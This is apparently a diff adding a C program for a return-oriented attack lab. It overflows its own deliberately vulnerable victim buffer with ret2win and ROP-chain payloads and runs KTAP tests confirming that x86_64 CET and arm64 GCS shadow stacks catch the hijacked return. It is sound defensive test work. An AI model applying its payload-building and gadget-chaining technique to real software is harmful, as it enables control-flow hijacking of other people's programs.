@@ -1,0 +1,335 @@
+// SPDX-License-Identifier: MIT
+/*
+ * /bin/rop: the return-oriented attack lab (docs/labs/rop.md). The exploit
+ * half: it overflows rop_victim()'s 32-byte stack buffer (victim.c) with a
+ * payload that replaces a saved return address, and watches what happens.
+ *
+ *   ret2win: the saved return address becomes win(). Without shadow
+ *   stacks the hijacked RET goes there: win() prints its marker line and
+ *   exits WIN_STATUS.
+ *   chain: the saved return address becomes the planted gadget (rop_arch.h),
+ *   which loads ROP_KEY into the first argument register and returns into
+ *   win(ROP_KEY): exit WIN_KEY_STATUS.
+ *   With shadow stacks on (x86_64 CET, arm64 GCS) the same payload is
+ *   caught at the hijacked RET: its target differs from the shadow stack's
+ *   copy, the CPU raises #CP (SDM vol. 1 §17.2) or a GCS data check (Arm
+ *   ARM D11), and the kernel sends SIGSEGV with SEGV_CPERR, si_addr 0 on
+ *   x86_64 (docs/ABI.md §4.3) and the RET's address on arm64 (§5.3). The
+ *   handler checks all of it, and the PC and target, then exits CAUGHT.
+ *
+ * Offsets come from rop_victim's own description of its frame (rop_frame),
+ * taken by a first call with no input, never from constants.
+ *
+ * Usage: rop                       the KTAP cases (/init runs this)
+ *        rop ret2win|chain [shstk]  one attack, told in words
+ *        rop hex BYTES [shstk]      your own payload, two hex digits a byte
+ */
+#include "rop.h"
+#include "rop_arch.h"
+#include "shstk_enable.h"
+#include "sig_arch.h"
+#include "test.h"
+#include <arch/syscall.h>
+#include <ktap.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/syscall.h>
+#include <sys/wait.h>
+#include <unistd.h>
+
+#define ROP_KEY 0x524f505f4b455921ul /* "!YEK_POR": what the chain puts in win's argument */
+#define FILLER 0x41		     /* 'A' */
+#define PAYLOAD_MAX 512
+
+/* The child's exit statuses: what happened. */
+#define WIN_STATUS 42	  /* win() ran, without the key */
+#define WIN_KEY_STATUS 43 /* win() ran with ROP_KEY: the gadget ran first */
+#define CAUGHT 44	  /* SIGSEGV SEGV_CPERR at the hijacked RET, exactly as expected */
+#define BAD_SIGNAL 81
+#define BAD_SI_CODE 82
+#define BAD_SI_ADDR 83
+#define BAD_PC 84
+#define BAD_TARGET 85
+#define RETURNED 86	  /* rop_frontend returned: nothing was hijacked */
+#define SELF_CHECK 87	  /* the frame is not laid out as victim.c expects */
+#define LAYOUT_CHANGED 88 /* the attack's frame differs from the probe's */
+#define BAD_INPUT 89
+
+enum attack { RET2WIN, CHAIN, HEX };
+
+static enum attack attack;
+static unsigned char payload[PAYLOAD_MAX];
+static size_t payload_len;
+static unsigned long planted;  /* the word at the saved return address's slot */
+static struct rop_frame probe; /* rop_frame after the call with no input */
+static const char *hex_arg;    /* rop hex's BYTES */
+
+/* Whether the attack's rop_victim frame has the probe's shape (the offsets the payload used). */
+static bool same_layout(void)
+{
+	return rop_frame.slot - (unsigned long *)rop_frame.buf ==
+		       probe.slot - (unsigned long *)probe.buf &&
+	       rop_frame.sp_after - (unsigned long *)rop_frame.buf ==
+		       probe.sp_after - (unsigned long *)probe.buf;
+}
+
+/*
+ * The function no caller calls: reached only through a hijacked return.
+ * Its stack is the attacker's, so it never returns: it exits.
+ */
+ROP_WIN_ATTR __attribute__((noreturn, noinline)) void win(unsigned long key);
+ROP_WIN_ATTR __attribute__((noreturn, noinline)) void win(unsigned long key)
+{
+	if (!same_layout()) {
+		note("win(): rop_victim's frame changed shape after the probe");
+		syscall1(__NR_exit_group, LAYOUT_CHANGED);
+	}
+	if (key == ROP_KEY) {
+		note("rop: win(%#lx) reached: the gadget set the argument", key);
+		syscall1(__NR_exit_group, WIN_KEY_STATUS);
+	}
+	note("rop: win() reached");
+	syscall1(__NR_exit_group, WIN_STATUS);
+	__builtin_unreachable();
+}
+
+static const char *target_name(unsigned long a)
+{
+	if (a == (unsigned long)win)
+		return "win";
+	if (a == (unsigned long)rop_gadget)
+		return "the gadget";
+	if (a == probe.saved)
+		return "the honest return";
+	return "somewhere else";
+}
+
+/* SIGSEGV in the attack's child: checks it is the shadow stack's verdict on the hijacked RET. */
+static void on_segv(int sig, siginfo_t *si, void *uc)
+{
+	unsigned long addr = ((const struct user_siginfo *)si)->u.addr;
+	unsigned long pc = sig_uc_pc(uc), target = ROP_UC_TARGET(uc);
+	unsigned long want_addr = SIG_ARCH_CPERR_ADDR_IS_PC ? rop_frame.ret_pc : 0;
+
+	if (sig != SIGSEGV) {
+		note("signal %d, want SIGSEGV", sig);
+		syscall1(__NR_exit_group, BAD_SIGNAL);
+	}
+	if (si->si_code != SEGV_CPERR) {
+		note("SIGSEGV si_code %d at pc %#lx (si_addr %#lx), want SEGV_CPERR (%d)",
+		     si->si_code, pc, addr, SEGV_CPERR);
+		syscall1(__NR_exit_group, BAD_SI_CODE);
+	}
+	if (addr != want_addr) {
+		note("SEGV_CPERR si_addr %#lx, want %#lx", addr, want_addr);
+		syscall1(__NR_exit_group, BAD_SI_ADDR);
+	}
+	if (pc != rop_frame.ret_pc) {
+		note("SEGV_CPERR at pc %#lx, want the hijacked RET at %#lx", pc, rop_frame.ret_pc);
+		syscall1(__NR_exit_group, BAD_PC);
+	}
+	if (target != planted) {
+		note("the RET at %#lx was going to %#lx, want the planted %#lx", pc, target,
+		     planted);
+		syscall1(__NR_exit_group, BAD_TARGET);
+	}
+	if (!same_layout()) {
+		note("rop_victim's frame changed shape after the probe");
+		syscall1(__NR_exit_group, LAYOUT_CHANGED);
+	}
+	note("rop: caught: SIGSEGV SEGV_CPERR si_addr %#lx at the RET at %#lx, "
+	     "which was going to %#lx (%s); win() never ran",
+	     addr, pc, target, target_name(target));
+	syscall1(__NR_exit_group, CAUGHT);
+}
+
+/* Appends the 8-byte little-endian word v at byte offset off of the payload. */
+static void put_word(size_t off, unsigned long v)
+{
+	memcpy(payload + off, &v, sizeof(v));
+	if (off + sizeof(v) > payload_len)
+		payload_len = off + sizeof(v);
+}
+
+/* Builds the payload for attack from the probe's offsets: true, or false for a bad one. */
+static bool build_payload(void)
+{
+	size_t slot = (size_t)((char *)probe.slot - probe.buf);
+	size_t sp = (size_t)((char *)probe.sp_after - probe.buf);
+
+	memset(payload, FILLER, sizeof(payload));
+	payload_len = 0;
+	switch (attack) {
+	case RET2WIN:
+		put_word(slot, (unsigned long)win);
+		break;
+	case CHAIN:
+		put_word(slot, (unsigned long)rop_gadget);
+		/* What the gadget pops: its argument, then where it returns. */
+		put_word(sp, ROP_KEY);
+		put_word(sp + 8, (unsigned long)win);
+		break;
+	case HEX:
+		for (const char *h = hex_arg; h[0]; h += 2) {
+			char byte[3] = { h[0], h[1], 0 };
+			char *end;
+
+			if (!h[1] || payload_len == PAYLOAD_MAX)
+				return false;
+			payload[payload_len++] = (unsigned char)strtoul(byte, &end, 16);
+			if (*end)
+				return false;
+		}
+		/* The RET will try the saved word with the payload's bytes over it (little-endian). */
+		planted = probe.saved;
+		if (payload_len > slot)
+			memcpy(&planted, payload + slot,
+			       payload_len - slot < sizeof(planted) ? payload_len - slot
+								    : sizeof(planted));
+		return true;
+	}
+	memcpy(&planted, payload + slot, sizeof(planted));
+	return true;
+}
+
+/* The attack, in a child: its exit status says what happened. */
+static int attack_body(void)
+{
+	struct kernel_sigaction sa = { (unsigned long)on_segv, SA_SIGINFO | SA_RESTORER,
+				       (unsigned long)sig_restorer, 0 };
+
+	EXPECT("rt_sigaction", syscall4(__NR_rt_sigaction, SIGSEGV, (long)&sa, 0, 8), 0);
+	rop_input_len = 0;
+	rop_frontend(); /* the probe: rop_victim describes its frame */
+	probe = rop_frame;
+	if (probe.bad) {
+		note("frame self-check: %s", probe.bad);
+		return SELF_CHECK;
+	}
+	if (!build_payload()) {
+		note("rop hex: BYTES must be pairs of hex digits, at most %d bytes", PAYLOAD_MAX);
+		return BAD_INPUT;
+	}
+	/* Here, not in the parent: on arm64 the saved word is the return into this function. */
+	note("rop: the RET at %#lx will go to %#lx (%s)", probe.ret_pc, planted,
+	     target_name(planted));
+	rop_input = payload;
+	rop_input_len = payload_len;
+	rop_frontend(); /* the attack */
+	note("rop_frontend returned: its return address survived");
+	return RETURNED;
+}
+
+/* rop_victim's frame, as the probe finds it: always 0 (checked by the self-check case). */
+static int layout_body(void)
+{
+	rop_input_len = 0;
+	rop_frontend();
+	probe = rop_frame;
+	note("buf %p; the saved return address (%s's) at buf + %ld holds %#lx; "
+	     "SP after the RET at %#lx is buf + %ld",
+	     (void *)probe.buf, probe.own ? "rop_victim" : "rop_frontend",
+	     (long)((char *)probe.slot - probe.buf), probe.saved, probe.ret_pc,
+	     (long)((char *)probe.sp_after - probe.buf));
+	if (probe.bad) {
+		note("frame self-check: %s", probe.bad);
+		return SELF_CHECK;
+	}
+	return 0;
+}
+
+static bool have_shadow_stacks(void)
+{
+	long r = syscall3(__NR_map_shadow_stack, 0, PAGE, 0);
+
+	if (r < 0 && r > -4096)
+		return false;
+	munmap((void *)r, PAGE);
+	return true;
+}
+
+/* One KTAP case: attack a in a child with shadow stacks as mode says, expecting exit status want. */
+static void attack_case(const char *name, enum attack a, unsigned long mode, int want, bool live)
+{
+	if (case_skipped(name, mode ? LIVE : ANY, live, ROP_FEATURE))
+		return;
+	attack = a;
+	ktap_ok(child_result(attack_body, mode, 0, want), "%s", name);
+}
+
+static int run_tests(void)
+{
+	bool live = have_shadow_stacks();
+
+	ktap_header();
+	ktap_plan(5);
+	ktap_print_msg("%s, %s %s; the gadget: %s", ROP_ARCH, ROP_FEATURE,
+		       live ? "available" : "not supported", ROP_GADGET_TEXT);
+	ktap_ok(child_result(layout_body, 0, 0, 0), "frame_layout_self_check");
+	attack_case("ret2win_without_shadow_stack_reaches_win", RET2WIN, 0, WIN_STATUS, live);
+	attack_case("rop_chain_without_shadow_stack_reaches_win_with_key", CHAIN, 0, WIN_KEY_STATUS,
+		    live);
+	attack_case("ret2win_with_shadow_stack_cperr", RET2WIN, SHSTK_MODE_ENABLE, CAUGHT, live);
+	attack_case("rop_chain_with_shadow_stack_cperr", CHAIN, SHSTK_MODE_ENABLE, CAUGHT, live);
+	return ktap_finish();
+}
+
+/* rop ret2win|chain|hex BYTES [shstk]: one attack, and what became of it in words. */
+static int run_demo(int argc, char **argv)
+{
+	bool shstk = argc > 0 && strcmp(argv[argc - 1], "shstk") == 0;
+	int st;
+
+	if (shstk)
+		argc--;
+	if (argc == 1 && strcmp(argv[0], "ret2win") == 0) {
+		attack = RET2WIN;
+	} else if (argc == 1 && strcmp(argv[0], "chain") == 0) {
+		attack = CHAIN;
+	} else if (argc == 2 && strcmp(argv[0], "hex") == 0) {
+		attack = HEX;
+		hex_arg = argv[1];
+	} else {
+		printf("usage: rop | rop ret2win|chain [shstk] | rop hex BYTES [shstk]\n");
+		return 2;
+	}
+	if (shstk && !have_shadow_stacks()) {
+		printf("rop: this machine has no %s\n", ROP_FEATURE);
+		return 2;
+	}
+	printf("rop: %s; win() at %#lx, the gadget (%s) at %#lx\n", ROP_ARCH, (unsigned long)win,
+	       ROP_GADGET_TEXT, (unsigned long)rop_gadget);
+	if (layout_body() != 0)
+		return 1;
+	if (!build_payload()) {
+		printf("rop hex: BYTES must be pairs of hex digits, at most %d bytes\n",
+		       PAYLOAD_MAX);
+		return 2;
+	}
+	printf("rop: payload, %zu bytes:", payload_len);
+	for (size_t i = 0; i < payload_len; i++)
+		printf("%s%02x", i % 8 ? "" : " ", payload[i]);
+	printf("\nrop: the attack runs in a child with %s %s\n", ROP_FEATURE, shstk ? "on" : "off");
+	st = run_child(attack_body, shstk ? SHSTK_MODE_ENABLE : 0);
+	if (st == -1)
+		return 1;
+	if (WIFSIGNALED(st))
+		printf("rop: the child died of signal %d\n", WTERMSIG(st));
+	else if (WEXITSTATUS(st) == WIN_STATUS || WEXITSTATUS(st) == WIN_KEY_STATUS)
+		printf("rop: hijacked: win() ran (exit %d)\n", WEXITSTATUS(st));
+	else if (WEXITSTATUS(st) == CAUGHT)
+		printf("rop: caught by the %s: win() never ran (exit %d)\n", ROP_FEATURE, CAUGHT);
+	else
+		printf("rop: the child exited %d (see its notes above)\n", WEXITSTATUS(st));
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	if (argc > 1)
+		return run_demo(argc - 1, argv + 1);
+	return run_tests();
+}
